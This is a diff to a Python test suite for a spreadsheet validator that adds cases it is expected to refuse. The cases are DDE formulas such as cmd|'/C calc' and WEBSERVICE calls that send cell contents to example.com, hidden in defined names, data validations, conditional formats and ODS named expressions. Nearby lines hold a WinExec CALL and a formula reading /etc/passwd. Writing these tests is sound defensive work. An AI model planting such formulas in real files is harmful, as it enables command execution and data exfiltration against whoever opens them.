@@ -5,6 +5,7 @@ import random
 from tests.hostile import good, zips
 from tests.hostile.makers import (
     SHEET1,
+    around,
     cell,
     compound,
     declared,
@@ -141,6 +142,15 @@ REFUSED = {
     "DDE": (cell("<f>cmd|' /C calc'!A0</f><v>0</v>"), r"Inputs!A1.*\(DDE\)"),
     "a call of a program": (cell('<f>CALL("kernel32","WinExec","JCJ","calc",0)</f>'), r"\(CALL\)"),
     "a web service": (cell('<f>_xlfn.WEBSERVICE("http://example.com/"&amp;A2)</f>'), r"\(WEBSERVICE\)"),
+    "DDE in a name": (xlsx(**{BOOK: good.workbook("<definedName name=\"a\">cmd|'/C calc'!A0</definedName>")}), r"\(DDE\)"),
+    "a web service in a name": (
+        xlsx(**{BOOK: good.workbook('<definedName name="a">WEBSERVICE("http://example.com/")</definedName>')}), r"\(WEBSERVICE\)"),
+    "a web service in a validation": (
+        around('<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>WEBSERVICE("http://example.com/"&amp;A2)</formula1>'
+               "</dataValidation></dataValidations>"), r"\(WEBSERVICE\), in a validation"),
+    "a web service in a format": (
+        around('<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://example.com/")=1</formula>'
+               "</cfRule></conditionalFormatting>"), r"\(WEBSERVICE\), in a validation or a format"),
     # Other kinds of file
     "an .xlsb": (
         xlsx(**{"_rels/.rels": good.relations(("rId1", "officeDocument", "xl/workbook.bin")), "xl/workbook.bin": b"x"}), r"\.xlsb"),
@@ -163,6 +173,9 @@ REFUSED = {
         table('<table:table-row><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"/></table:table-row>'), r"\(DDE\)"),
     "a formula over another file": (
         table("<table:table-row><table:table-cell table:formula=\"of:=['file:///etc/passwd'#$Sheet1.A1]\"/></table:table-row>"), "another file"),
+    "a web service in a name of an .ods": (
+        table('<table:named-expressions><table:named-expression table:name="a" table:expression="of:=WEBSERVICE(&quot;http://example.com/&quot;)"/></table:named-expressions>'),
+        r"\(WEBSERVICE\)"),
     "a sheet linked from a file": (table('<table:table-source xlink:href="file:///x.ods" xmlns:xlink="http://www.w3.org/1999/xlink"/>'), "links to other"),
     "an OLE object in an .ods": (
         ods(**{"META-INF/manifest.xml": good.manifest('<manifest:file-entry manifest:full-path="Object 1" manifest:media-type="application/vnd.sun.star.oleobject"/>')}),
